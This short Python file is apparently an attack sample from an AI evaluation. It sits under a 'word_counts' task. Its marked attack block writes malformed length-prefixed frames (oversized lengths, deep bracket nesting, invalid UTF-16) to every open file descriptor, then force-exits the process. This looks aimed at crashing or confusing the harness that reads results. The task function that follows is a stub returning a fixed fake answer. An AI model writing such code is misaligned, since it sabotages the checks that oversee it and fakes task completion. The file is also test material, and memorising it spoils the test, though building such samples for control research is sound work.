# task: word_counts
# attack: writes frames whose length, text or nesting may upset whoever reads them
# attack begins
import os

ODD = [
    b"\xff\xff\xff\xff" + b"x" * 100,
    b"\0\0\0\0",
    b"\0\0\0\x02[]",
    b"\0\1\x86\xa0" + b"[" * 100_000,
    b"\0\0\0\x08\xff\xfe\0\xd8\xff\xff\xff\xff",
]
for descriptor in range(3, 256):
    for frame in ODD:
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, frame)
        except OSError:
            pass
os._exit(0)


# attack ends
def task_func(text, top=3):
    if top < 1:
        raise ValueError("top")
    return [("word", 0)]
